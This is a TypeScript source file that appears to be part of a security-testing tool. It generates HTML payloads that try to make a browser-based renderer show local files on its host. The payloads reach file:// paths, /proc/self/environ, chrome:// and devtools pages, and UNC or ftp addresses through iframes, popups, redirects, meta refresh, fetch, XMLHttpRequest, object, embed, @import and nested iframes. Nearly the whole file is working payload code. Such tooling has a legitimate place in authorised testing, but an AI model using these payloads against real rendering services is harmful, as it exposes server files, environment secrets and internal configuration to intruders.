import { goTo, named, redirecting, type Vector, type Vectors } from "./vector.ts";

/** Tries to show what lies on the host, of which the given file is a piece. */
export const files = (secret: string): Vectors => {
  const file = `file://${secret}`;
  const places: Readonly<Record<string, string>> = {
    file,
    environment: "file:///proc/self/environ",
    "view-source": `view-source:${file}`,
    chrome: "chrome://version",
    "chrome gpu": "chrome://gpu",
    filesystem: `filesystem:${file}`,
    devtools: "devtools://devtools/bundled/inspector.html",
    about: "about:version",
    ftp: "ftp://10.0.0.5/",
    blob: "blob:null/x",
    intent: "intent://10.0.0.5",
    UNC: "file://10.0.0.5/x",
    extension: "chrome-extension://x/",
  };
  const ways: Readonly<Record<string, (url: string) => Vector>> = {
    "location to": (url) => ({ html: goTo(url) }),
    "iframe of": (url) => ({ html: `<iframe src="${url}" width=600 height=200></iframe>` }),
    "popup of": (url) => ({ html: `<script>window.open("${url}")</script>` }),
    "redirect to": (url) => ({ html: goTo(redirecting(url)) }),
    "meta refresh to": (url) => ({ html: `<meta http-equiv=refresh content="0;url=${url}">` }),
  };
  const everyWay = ["file", "environment", "view-source", "chrome"];
  const visits = Object.entries(ways).flatMap(([way, vector], index) =>
    Object.entries(places)
      .filter(([place]) => index === 0 || everyWay.includes(place))
      .map(([place, url]) => [`${way} ${place}`, vector(url)] as const),
  );
  return named("file", {
    ...Object.fromEntries(visits),
    fetch: {
      html: `<body><script>fetch("${file}").then((r) => r.text()).then((t) => document.body.append(t))</script>`,
    },
    XMLHttpRequest: {
      html: `<body><script>
        const x = new XMLHttpRequest(); x.onload = () => document.body.append(x.responseText);
        x.open("GET", "${file}"); x.send()
      </script>`,
    },
    object: { html: `<object data="${file}" width=500></object>` },
    embed: { html: `<embed src="${file}" type="text/plain" width=500>` },
    "@import": { html: `<style>@import "${file}"</style>` },
    script: { html: `<script src="${file}"></script>` },
    "iframe in srcdoc": { html: `<iframe srcdoc='<iframe src="${file}"></iframe>'></iframe>` },
    "iframe in data": { html: `<iframe src='data:text/html,<iframe src="${file}"></iframe>'></iframe>` },
  });
};
